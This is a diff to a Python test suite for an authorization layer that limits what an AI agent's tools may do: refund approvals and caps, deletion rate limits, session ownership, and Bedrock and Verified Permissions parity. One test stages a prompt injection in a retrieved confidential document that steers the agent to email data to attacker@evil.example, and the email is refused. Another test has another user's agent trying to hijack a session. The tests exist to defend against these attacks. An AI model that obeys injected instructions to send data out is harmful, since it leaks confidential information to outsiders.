@@ -43,6 +43,7 @@ from agentauthz.session import CallRecord, MemorySessionStore, SessionConfig, Se
 ROOT = Path(__file__).resolve().parents[2]
 POLICIES = ROOT / "policies"
 ACME = az.EntityUID("Tenant", "acme")
+REFUND = az.EntityUID("Tool", "issue_refund")
 
 # A support agent cleared for confidential support documents: support agents may email
 # anyone, so only the session rule stands between what sam's agent read and the outside.
@@ -161,9 +162,16 @@ class Agent:
                                                   config=self.config(user, session))
         return {m.tool_call_id: m for m in result["messages"] if isinstance(m, ToolMessage)}
 
-    def state(self, session: str) -> az.session.SessionSnapshot:
-        with self.authz.session(session) as bound:
+    def state(self, session: str, user: str) -> az.session.SessionSnapshot:
+        with self.authz.acting_as(az.EntityUID("User", user)), self.authz.session(session) as bound:
             return bound.state()
+
+    def approve(self, session: str, user: str, *refunds: tuple[str, int]) -> None:
+        """A human approves these refunds (order, amount) of the user's conversation in the application."""
+        with self.authz.acting_as(az.EntityUID("User", user)), self.authz.session(session) as bound:
+            for order, amount in refunds:
+                bound.approve("issue_refund", REFUND, arguments={"order_id": order, "amount": amount},
+                              granted_by="manager")
 
 
 def _document(arguments: dict[str, Any]) -> az.EntityUID:
@@ -189,7 +197,7 @@ def test_injected_exfiltration_is_denied_after_a_confidential_document_was_retri
     assert INJECTION in str(messages["t1-0-search_documents"].content)  # the injection reached the model
     assert refused(messages["t2-0-send_email"], "acme-no-external-email-after-confidential")
     assert agent.ran == ["search_documents"]  # the email never went out
-    state = agent.state("conv-exfil")
+    state = agent.state("conv-exfil", "sam")
     assert {"confidential", "customers", "handbook", "playbook"} <= state.seen
     assert state.calls == {"search_documents": 1}  # the refused call does not count
 
@@ -199,7 +207,7 @@ def test_the_same_email_is_allowed_in_a_clean_session() -> None:
     messages = agent.run("sam", "conv-clean", *EXFILTRATION)
     assert messages["t2-0-send_email"].status != "error"
     assert agent.ran == ["search_documents", "send_email attacker@evil.example"]
-    assert "confidential" not in agent.state("conv-clean").seen
+    assert "confidential" not in agent.state("conv-clean", "sam").seen
 
 
 def test_an_internal_email_is_still_allowed_after_confidential_data() -> None:
@@ -230,15 +238,15 @@ class OrderedStore(MemorySessionStore):
         super().__init__()
         self.log: list[str] = []
 
-    def admit(self, session_id: str, call: CallRecord, *, version: int, lease_until: float) -> Any:
-        outcome = super().admit(session_id, call, version=version, lease_until=lease_until)
+    def admit(self, session_id: str, call: CallRecord, *, owner: str, version: int) -> Any:
+        outcome = super().admit(session_id, call, owner=owner, version=version)
         if outcome == "admitted":
             self.log.append(f"admit {call.action}")
         return outcome
 
-    def add_labels(self, session_id: str, labels: Iterable[str]) -> None:
+    def add_labels(self, session_id: str, labels: Iterable[str], *, owner: str) -> None:
         labels = list(labels)
-        super().add_labels(session_id, labels)
+        super().add_labels(session_id, labels, owner=owner)
         if "confidential" in labels:
             self.log.append("seen confidential")
 
@@ -270,13 +278,15 @@ def test_a_large_refund_needs_an_approval_granted_in_the_session() -> None:
     refund = ("issue_refund", {"order_id": "o-1002", "amount": 4200})
     first = agent.run("carol", "conv-approval", turn(refund, prefix="a"))
     assert refused(first["a-0-issue_refund"], "refund-over-1000-needs-approval")
-    # A human approves this order's refund in the application; the agent tries again.
-    with agent.authz.session("conv-approval") as session:
-        session.approve("issue_refund", arguments={"order_id": "o-1002"}, granted_by="manager")
+    # A human approves this very refund in the application; the agent tries again.
+    agent.approve("conv-approval", "carol", ("o-1002", 4200))
     second = agent.run("carol", "conv-approval", turn(refund, prefix="b"),
                        turn(("issue_refund", {"order_id": "o-1003", "amount": 4200}), prefix="c"))
     assert second["b-0-issue_refund"].status != "error"
     assert refused(second["c-0-issue_refund"], "refund-over-1000-needs-approval")  # another order
+    third = agent.run("carol", "conv-approval", turn(("issue_refund", {"order_id": "o-1002", "amount": 4900}),
+                                                     prefix="e"))
+    assert refused(third["e-0-issue_refund"], "refund-over-1000-needs-approval")  # another amount
     assert agent.ran == ["issue_refund o-1002 4200"]
     small = agent.run("carol", "conv-other", turn(("issue_refund", {"order_id": "o-9", "amount": 900}),
                                                   prefix="d"))
@@ -288,15 +298,14 @@ def test_a_large_refund_needs_an_approval_granted_in_the_session() -> None:
 
 def test_refunds_of_a_conversation_are_capped_in_total() -> None:
     agent = Agent()
-    with agent.authz.session("conv-cap") as session:
-        session.approve("issue_refund")
+    agent.approve("conv-cap", "carol", ("o-1", 3000), ("o-2", 2000))
     messages = agent.run("carol", "conv-cap",
                          turn(("issue_refund", {"order_id": "o-1", "amount": 3000}), prefix="r1"),
                          turn(("issue_refund", {"order_id": "o-2", "amount": 2000}), prefix="r2"),
                          turn(("issue_refund", {"order_id": "o-3", "amount": 1}), prefix="r3"))
     assert messages["r2-0-issue_refund"].status != "error"
     assert refused(messages["r3-0-issue_refund"], "refund-session-cap")
-    assert agent.state("conv-cap").totals == {"issue_refund": {"amount": 5000}}
+    assert agent.state("conv-cap", "carol").totals == {"issue_refund": {"amount": 5000}}
     fresh = agent.run("carol", "conv-cap-2", turn(("issue_refund", {"order_id": "o-3", "amount": 1}),
                                                   prefix="r4"))
     assert fresh["r4-0-issue_refund"].status != "error"
@@ -304,13 +313,11 @@ def test_refunds_of_a_conversation_are_capped_in_total() -> None:
 
 def test_parallel_refunds_in_one_turn_cannot_overrun_the_cap() -> None:
     agent = Agent()
-    with agent.authz.session("conv-split") as session:
-        session.approve("issue_refund")
     calls = [("issue_refund", {"order_id": f"o-{i}", "amount": 900}) for i in range(8)]
     messages = agent.run("carol", "conv-split", turn(*calls, prefix="p"))
     allowed = [m for m in messages.values() if m.status != "error"]
     assert len(allowed) == 5  # 5 * 900 <= 5000 < 6 * 900
-    assert agent.state("conv-split").totals == {"issue_refund": {"amount": 4500}}
+    assert agent.state("conv-split", "carol").totals == {"issue_refund": {"amount": 4500}}
     assert len([r for r in agent.ran if r.startswith("issue_refund")]) == 5
 
 
@@ -332,7 +339,7 @@ def test_at_most_three_deletions_an_hour() -> None:
     later = agent.run("alice", "conv-delete", turn(("delete_document", {"document_id": DELETABLE[4]}),
                                                    prefix="d9"))
     assert later["d9-0-delete_document"].status != "error"
-    assert agent.state("conv-delete").calls == {"delete_document": 4}
+    assert agent.state("conv-delete", "alice").calls == {"delete_document": 4}
 
 
 def test_parallel_deletions_in_one_turn_stop_at_the_limit_sync_and_async() -> None:
@@ -344,7 +351,7 @@ def test_parallel_deletions_in_one_turn_stop_at_the_limit_sync_and_async() -> No
         else:
             messages = asyncio.run(agent.arun("alice", f"conv-{run}", turn(*calls, prefix="x")))
         assert sum(m.status != "error" for m in messages.values()) == 3, run
-        assert agent.state(f"conv-{run}").calls == {"delete_document": 3}
+        assert agent.state(f"conv-{run}", "alice").calls == {"delete_document": 3}
 
 
 def test_a_replayed_tool_call_id_does_not_run_again() -> None:
@@ -354,7 +361,7 @@ def test_a_replayed_tool_call_id_does_not_run_again() -> None:
     replay = agent.run("alice", "conv-replay", delete)  # e.g. a resumed graph re-running the node
     assert replay["same-0-delete_document"].status == "error"
     assert agent.ran == ["delete_document acme-handbook"]
-    assert agent.state("conv-replay").calls == {"delete_document": 1}
+    assert agent.state("conv-replay", "alice").calls == {"delete_document": 1}
 
 
 def test_a_tool_that_fails_does_not_count() -> None:
@@ -371,7 +378,7 @@ def test_a_tool_that_fails_does_not_count() -> None:
                for i, name in enumerate(DELETABLE)]
     messages = agent.run("alice", "conv-fail", *deletes)
     assert all(m.status == "error" and "storage is down" in str(m.content) for m in messages.values())
-    assert agent.state("conv-fail").calls == {}  # five failures, none refused by the limit
+    assert agent.state("conv-fail", "alice").calls == {}  # five failures, none refused by the limit
 
     @tool
     def crashing_delete(document_id: str) -> str:
@@ -382,7 +389,7 @@ def test_a_tool_that_fails_does_not_count() -> None:
     agent.tools = [t for t in agent.tools if t.name != "delete_document"] + [crashing_delete]
     with pytest.raises(RuntimeError):
         agent.run("alice", "conv-crash", deletes[0])
-    assert agent.state("conv-crash").calls == {} and agent.state("conv-crash").pending == ()
+    assert agent.state("conv-crash", "alice").calls == {} and agent.state("conv-crash", "alice").pending == ()
 
 
 # -- the same rules through @authz.guard and the Bedrock handler --------------------------------------
@@ -402,7 +409,8 @@ def test_guarded_example_tools_apply_the_session_rules() -> None:
         ("issue_refund", {"order_id": "o-3", "amount": 100}),
     ]
     with authz.acting_as(az.EntityUID("User", "carol")), authz.session("guarded") as session:
-        session.approve("issue_refund")
+        for order, amount in (("o-1", 3000), ("o-2", 2500)):
+            session.approve("issue_refund", REFUND, arguments={"order_id": order, "amount": amount})
         results = [tools[name](**args) for name, args in script]
     assert results[0] == "refunded 3000 on o-1"
     assert "refund-session-cap" in results[1]  # 3000 + 2500 > 5000
@@ -460,14 +468,19 @@ def test_bedrock_handler_records_calls_in_the_event_session() -> None:
     clean = handler(_bedrock_event("send_email", "bedrock-2", "sam", to="attacker@evil.example",
                                    subject="log"), None)
     assert state_of(clean) is None
-    with authz.session("bedrock-3") as session:
-        session.approve("issue_refund")
+    with authz.acting_as(az.EntityUID("User", "carol")), authz.session("bedrock-3") as session:
+        for i in range(3):
+            session.approve("issue_refund", REFUND, arguments={"order_id": f"o-{i}", "amount": 2000})
     outcomes = [state_of(handler(_bedrock_event("issue_refund", "bedrock-3", "carol", order_id=f"o-{i}",
                                                 amount=2000), None)) for i in range(3)]
     assert outcomes == [None, None, "REPROMPT"]  # the third would pass the cap of 5,000
-    with authz.session("bedrock-3") as session:
+    with authz.acting_as(az.EntityUID("User", "carol")), authz.session("bedrock-3") as session:
         assert session.state().totals == {"issue_refund": {"amount": 4000}}
     assert ran == ["send_email", "issue_refund", "issue_refund"]
+    # mallory's agent names carol's conversation: the session is carol's, the call is refused
+    stolen = handler(_bedrock_event("issue_refund", "bedrock-3", "mallory", order_id="o-0", amount=2000),
+                     None)
+    assert state_of(stolen) == "REPROMPT" and ran == ["send_email", "issue_refund", "issue_refund"]
 
 
 # -- the same facts on Amazon Verified Permissions (local endpoint) -----------------------------------
@@ -487,20 +500,19 @@ def test_session_rules_decide_alike_on_verified_permissions(avp_engine: Any,
     refund = {"action": "issue_refund", "resource": az.EntityUID("Tool", "issue_refund"),
               "context": {"input": {"order_id": "o-1", "amount": 1200}}}
     outcomes = []
-    with local.session("avp-1") as session:
-        for step in range(3):
-            if step == 1:
-                session.see("confidential")
-            if step == 2:
-                session.approve("issue_refund")
-            row = []
-            for user, request in (("bob", email), ("carol", refund)):
-                with local.acting_as(az.EntityUID("User", user)):
-                    mine = local.authorize(**request)  # type: ignore[arg-type]
-                    theirs = remote.authorize(**request)  # type: ignore[arg-type]
-                assert (theirs.allowed, theirs.reasons) == (mine.allowed, mine.reasons), (step, user)
-                row.append((mine.allowed, mine.reasons))
-            outcomes.append(row)
+    for step in range(3):
+        row = []
+        for user, request in (("bob", email), ("carol", refund)):
+            with local.acting_as(az.EntityUID("User", user)), local.session(f"avp-{user}") as session:
+                if step == 1:
+                    session.see("confidential")
+                if step == 2 and user == "carol":
+                    session.approve("issue_refund", REFUND, arguments={"order_id": "o-1", "amount": 1200})
+                mine = local.authorize(**request)  # type: ignore[arg-type]
+                theirs = remote.authorize(**request)  # type: ignore[arg-type]
+            assert (theirs.allowed, theirs.reasons) == (mine.allowed, mine.reasons), (step, user)
+            row.append((mine.allowed, mine.reasons))
+        outcomes.append(row)
     assert outcomes == [
         [(True, ("support-email-anyone",)), (False, ("refund-over-1000-needs-approval",))],
         [(False, ("acme-no-external-email-after-confidential",)),
